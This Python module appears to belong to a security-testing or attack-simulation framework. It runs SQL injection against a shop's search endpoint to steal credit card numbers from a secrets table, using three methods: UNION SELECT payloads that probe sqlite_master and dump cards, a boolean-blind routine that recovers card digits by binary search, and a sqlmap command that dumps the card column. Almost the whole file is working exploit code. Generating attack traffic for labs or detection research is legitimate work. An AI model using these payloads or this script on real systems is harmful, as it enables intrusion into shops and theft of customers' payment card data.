"""SQL injection by the shop's search: joining a table, yes-or-no questions, sqlmap."""

from __future__ import annotations

import re
import urllib.parse

from common import Session, emit, main, word
from common_shop import SECRETS, exchange
from common_tool import home, run_tool

LETTERS = "0123456789"
CARD_DIGITS = 16


def act(session: Session) -> None:
    """Attack; the effect is a card number from the table that search should not reach."""
    taken = 0
    try:
        variant = session.params.get("variant")
        if variant == "sqlmap":
            taken = _by_sqlmap(session)
        elif variant == "blind":
            taken = _by_questions(session)
        else:
            taken = _by_union(session)
    finally:
        emit("effect", success=taken > 0, taken=taken)


def _search(session: Session, text: str) -> tuple[int, str]:
    status, body = exchange(session, "GET", f"/search?q={urllib.parse.quote(text)}")
    emit("probe", status=status, bytes=len(body))
    return status, body.decode(errors="replace")


def _by_union(session: Session) -> int:
    """Find the hole, the number of columns, the tables, and read one: as a person does."""
    rng = session.rng
    _search(session, word(rng, 2, 3))
    if not session.rest() or _search(session, "'")[0] != 500:
        return 0
    for columns in range(1, 6):
        if not session.rest(0.5):
            return 0
        nulls = ",".join(["NULL"] * columns)
        if _search(session, f"{word(rng)}' UNION SELECT {nulls} -- ")[0] == 200:
            break
    if not session.rest():
        return 0
    _search(session, f"{word(rng)}' UNION SELECT name, sql FROM sqlite_master -- ")  # noqa: S608
    if not session.rest():
        return 0
    _, body = _search(session, f"{word(rng)}' UNION SELECT name, card FROM {SECRETS} -- ")  # noqa: S608
    return len(re.findall(rf"\d{{{CARD_DIGITS}}}", body))


def _by_questions(session: Session) -> int:
    """Read digits of a card by halving: is the next digit larger than this?"""
    known = ""
    card = f"(SELECT card FROM {SECRETS} LIMIT 1)"  # noqa: S608
    while len(known) < CARD_DIGITS:
        low, high = 0, len(LETTERS) - 1
        while low < high:
            middle = (low + high) // 2
            digit = f"substr({card},{len(known) + 1},1)"
            _, body = _search(session, f"' AND {digit} > '{LETTERS[middle]}' -- ")
            low, high = (middle + 1, high) if "<li>" in body else (low, middle)
            if not session.rest_s(session.rng.expovariate(float(session.params["rate_s"]))):
                return int(len(known) >= CARD_DIGITS // 4)
        known += LETTERS[low]
    return 1


def _by_sqlmap(session: Session) -> int:
    url = f"http://{session.peer['address']}:{session.port}/search?q={word(session.rng, 2, 3)}"
    with home() as folder:
        command = ["sqlmap", "--batch", "--disable-coloring", "-u", url, "--dbms=sqlite"]
        command += ["--technique", str(session.params["technique"]), "--output-dir", str(folder)]
        command += ["-D", "main", "-T", SECRETS, "-C", "card", "--dump", "--stop", "3"]
        command += ["--flush-session", "--random-agent"]
        said = run_tool(session, command, folder, fine=None).output
    return len(set(re.findall(rf"\| (\d{{{CARD_DIGITS}}}) +\|", said)))


if __name__ == "__main__":
    main(None, act)
